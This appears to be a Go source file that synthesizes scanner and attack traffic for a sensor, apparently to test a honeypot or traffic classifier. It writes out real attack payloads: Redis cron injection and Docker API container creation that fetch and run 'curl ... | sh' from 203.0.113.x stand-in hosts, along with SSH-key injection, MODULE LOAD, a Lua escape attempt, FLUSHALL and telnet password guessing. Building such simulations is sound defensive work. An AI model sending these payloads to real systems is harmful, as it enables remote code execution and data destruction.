package simulate

import (
	"bytes"
	"fmt"

	"terroir"
)

// target is the sensor and port that a payload is made for.
type target struct {
	addr string
	host string // the address as it stands in a URL or Host header
	port uint16
}

// family is a tool: what it sends, in so many variants.
type family struct {
	name, proto string
	transport   terroir.Transport
	variants    int
	make        func(variant int, t target) []byte
}

var (
	families     = map[string]*family{}
	portFamilies = map[uint16][]*family{}
)

func text(format string) func(int, target) []byte {
	return func(v int, _ target) []byte { return fmt.Appendf(nil, format, v) }
}

// fixed ignores the variant.
func fixed(s string) func(int, target) []byte {
	return func(int, target) []byte { return []byte(s) }
}

// get is an HTTP request with the sensor's address as host; the path may have the variant.
func get(method, path, agent string) func(int, target) []byte {
	return func(v int, t target) []byte {
		if bytes.Contains([]byte(path), []byte("%")) {
			return fmt.Appendf(nil, method+" "+path+" HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n", v, t.host, t.port, agent)
		}
		return fmt.Appendf(nil, "%s %s HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n", method, path, t.host, t.port, agent)
	}
}

// resp is a Redis command in RESP.
func resp(args ...string) []byte {
	b := fmt.Appendf(nil, "*%d\r\n", len(args))
	for _, a := range args {
		b = fmt.Appendf(b, "$%d\r\n%s\r\n", len(a), a)
	}
	return b
}

// hello is a ClientHello as a simple scanner sends it: every variant has ciphers of its own.
func hello(v int, _ target) []byte {
	ciphers := []byte{0xc0, 0x2f, 0xc0, 0x30, 0x00, 0x9c, 0x00, 0x9d, 0x00, byte(0x2f + v%8)}
	extensions := append(extension(10, 0, 2, 0, 23), extension(13, 0, 2, byte(4+v/8), 1)...)
	body := append([]byte{3, 3}, bytes.Repeat([]byte{byte(0x41 + v%20)}, 32)...)
	body = append(body, 0, 0, byte(len(ciphers)))
	body = append(body, ciphers...)
	body = append(body, 1, 0, 0, byte(len(extensions)))
	body = append(body, extensions...)
	return record(body)
}

func define(name, proto string, t terroir.Transport, variants int, make func(int, target) []byte, ports ...uint16) {
	f := &family{name, proto, t, variants, make}
	families[name] = f
	for _, p := range ports {
		portFamilies[p] = append(portFamilies[p], f)
	}
}

// familyFor is one of the port's families.
func familyFor(port uint16, i int) *family {
	list := portFamilies[port]
	return list[i%len(list)]
}

func init() {
	defineRedis()
	defineContainers()
	defineOthers()
}

const zgrab = "Mozilla/5.0 zgrab/0.x"

// defineRedis makes what is sent to 6379: 36 tools with some 250 variants together.
func defineRedis() {
	const p = 6379
	r := func(name string, variants int, make func(int, target) []byte) {
		define(name, "redis", terroir.TCP, variants, make, p)
	}
	r("redis-info", 1, fixed("INFO\r\n"))
	r("redis-info-resp", 1, func(int, target) []byte { return resp("INFO") })
	r("redis-ping", 1, fixed("PING\r\n"))
	r("redis-ping-resp", 1, func(int, target) []byte { return resp("PING") })
	r("redis-config-get", 1, func(int, target) []byte { return resp("CONFIG", "GET", "*") })
	r("redis-command", 1, func(int, target) []byte { return resp("COMMAND") })
	r("redis-client-list", 1, func(int, target) []byte { return resp("CLIENT", "LIST") })
	r("redis-nonexistent", 1, fixed("NONEXISTENT\r\n"))
	r("redis-auth", 20, func(v int, _ target) []byte { return resp("AUTH", fmt.Sprintf("redis%d", v)) })
	r("redis-cron", 54, func(v int, _ target) []byte {
		return resp("SET", fmt.Sprintf("backup%d", v%4), fmt.Sprintf("\n*/%d * * * * curl -fsSL http://203.0.113.%d/x%d.sh | sh\n", 1+v%5, v, v))
	})
	r("redis-dir", 6, func(v int, _ target) []byte { return resp("CONFIG", "SET", "dir", fmt.Sprintf("/var/spool/cron%d", v)) })
	r("redis-slaveof", 36, func(v int, _ target) []byte {
		return resp("SLAVEOF", fmt.Sprintf("203.0.113.%d", 10+v), fmt.Sprint(8000+v))
	})
	r("redis-module", 12, func(v int, _ target) []byte { return resp("MODULE", "LOAD", fmt.Sprintf("/tmp/red%d.so", v)) })
	r("redis-eval", 9, func(v int, _ target) []byte {
		return resp("EVAL", fmt.Sprintf(`local io_l = package.loadlib("/usr/lib/liblua5.1.so.%d", "luaopen_io")`, v), "0")
	})
	r("redis-flushall", 1, func(int, target) []byte { return resp("FLUSHALL") })
	r("redis-keys", 3, func(v int, _ target) []byte { return resp("KEYS", []string{"*", "a*", "session*"}[v]) })
	r("redis-ssh-key", 12, func(v int, _ target) []byte {
		return resp("SET", "crackit", fmt.Sprintf("\n\nssh-rsa AAAAB3NzaC1yc2Ekey%04d invalid@example\n\n", v))
	})
	r("redis-select", 4, func(v int, _ target) []byte { return resp("SELECT", fmt.Sprint(v)) })
	r("redis-dbsize", 1, func(int, target) []byte { return resp("DBSIZE") })
	r("redis-quit", 1, fixed("QUIT\r\n"))
	h := func(name, proto string, variants int, make func(int, target) []byte) {
		define(name, proto, terroir.TCP, variants, make, p)
	}
	h("mglndd", "unknown", 1, func(_ int, t target) []byte { return fmt.Appendf(nil, "MGLNDD_%s_%d\n", t.addr, t.port) })
	h("http-root-6379", "http", 6, func(v int, t target) []byte { return get("GET", "/", fmt.Sprintf("Mozilla/5.0 probe/%d", v))(v, t) })
	h("http-zgrab-6379", "http", 1, get("GET", "/", zgrab))
	h("http10", "http", 1, fixed("GET / HTTP/1.0\r\n\r\n"))
	h("http-paths-6379", "http", 20, get("GET", "/p%d.php", "Go-http-client/1.1"))
	h("tls-6379", "tls", 8, hello)
	h("rdp-cookie", "rdp", 10, func(v int, _ target) []byte { return rdp(fmt.Sprintf("user%d", v)) })
	h("ssh-client", "ssh", 4, text("SSH-2.0-Client_%d\r\n"))
	h("smb", "smb", 2, func(v int, _ target) []byte { return smb(v) })
	h("socks5", "socks", 1, fixed("\x05\x01\x00"))
	h("socks4", "socks", 3, func(v int, _ target) []byte { return []byte{4, 1, 0, 80, 203, 0, 113, byte(v + 1), 0} })
	h("mqtt", "mqtt", 2, func(v int, _ target) []byte {
		return fmt.Appendf(nil, "\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04ab0%d", v)
	})
	h("crlf", "unknown", 2, func(v int, _ target) []byte { return bytes.Repeat([]byte("\r\n"), v+1) })
	h("jdwp", "jdwp", 1, fixed("JDWP-Handshake"))
	h("postgres-6379", "postgresql", 1, fixed("\x00\x00\x00\x08\x04\xd2\x16\x2f"))
	h("memcached-6379", "memcached", 1, fixed("stats\r\n"))
}

func defineContainers() {
	d := func(name, proto string, variants int, make func(int, target) []byte, ports ...uint16) {
		define(name, proto, terroir.TCP, variants, make, ports...)
	}
	d("docker-version", "http", 1, get("GET", "/version", "Go-http-client/1.1"), 2375)
	d("docker-ping", "http", 1, get("GET", "/_ping", "Docker-Client/20.10.7 (linux)"), 2375)
	d("docker-json", "http", 8, get("GET", "/v1.%d/containers/json", zgrab), 2375)
	d("docker-info", "http", 1, get("GET", "/info", "docker-sdk-python/3.7.0"), 2375)
	d("docker-create", "http", 18, func(v int, t target) []byte {
		body := fmt.Sprintf(`{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl -s http://203.0.113.%d/d%d.sh | sh"],"HostConfig":{"Binds":["/:/mnt"]}}`, v, v)
		return fmt.Appendf(nil, "POST /v1.24/containers/create HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: Docker-Client/1.13.1 (linux)\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
			t.host, t.port, len(body), body)
	}, 2375)
	d("tls-scan", "tls", 16, hello, 2376, 6443)
	d("tls-plain", "http", 2, get("GET", "/", zgrab), 2376, 6443)
	d("etcd-version", "http", 1, get("GET", "/version", "curl/7.68.0"), 2379, 2380)
	d("etcd-keys", "http", 5, get("GET", "/v2/keys/?recursive=true&n=%d", "Go-http-client/1.1"), 2379, 2380)
	d("jupyter-api", "http", 1, get("GET", "/api/terminals", "python-requests/2.27.1"), 8888)
	d("jupyter-tree", "http", 4, get("GET", "/tree?n=%d", "Mozilla/5.0 (X11; Linux x86_64)"), 8888)
	d("http-root-8888", "http", 2, get("GET", "/", zgrab), 8888, 8090, 5001, 9992)
	d("confluence-ognl", "http", 9, get("GET", "/%%24%%7B%d%%7D/", "Mozilla/5.0 (Windows NT 10.0)"), 8090)
	d("confluence-login", "http", 1, get("GET", "/login.action", "Mozilla/5.0"), 8090)
	d("couch-dbs", "http", 1, get("GET", "/_all_dbs", "curl/7.68.0"), 5984)
	d("couch-users", "http", 6, get("PUT", "/_users/org.couchdb.user:u%d", "python-requests/2.22.0"), 5984)
}

func defineOthers() {
	d := func(name, proto string, t terroir.Transport, variants int, make func(int, target) []byte, ports ...uint16) {
		define(name, proto, t, variants, make, ports...)
	}
	d("pg-ssl", "postgresql", terroir.TCP, 1, fixed("\x00\x00\x00\x08\x04\xd2\x16\x2f"), 5432)
	d("pg-startup", "postgresql", terroir.TCP, 12, func(v int, _ target) []byte { return pgStartup(fmt.Sprintf("user%d", v)) }, 5432)
	d("memcached-stats", "memcached", terroir.TCP, 1, fixed("stats\r\n"), 11211)
	d("memcached-version", "memcached", terroir.TCP, 1, fixed("version\r\n"), 11211)
	d("memcached-udp", "memcached", terroir.UDP, 3, func(v int, _ target) []byte { return append([]byte{0, byte(v), 0, 0, 0, 1, 0, 0}, "stats\r\n"...) }, 11211)
	d("telnet-negotiation", "telnet", terroir.TCP, 10, func(v int, _ target) []byte { return []byte{0xff, 0xfd, byte(1 + v), 0xff, 0xfb, 0x18} }, 2323)
	d("telnet-login", "unknown", terroir.TCP, 24, func(v int, _ target) []byte { return fmt.Appendf(nil, "root\r\npass%d\r\n", v) }, 2323)
	d("synology", "http", terroir.TCP, 3, get("GET", "/webman/index.cgi?n=%d", "Mozilla/5.0"), 5001)
	d("tls-5001", "tls", terroir.TCP, 6, hello, 5001)
	d("udp-noise", "unknown", terroir.UDP, 5, func(v int, _ target) []byte { return bytes.Repeat([]byte{byte(0xa0 + v)}, 4+v) }, 9992, 2323)
}
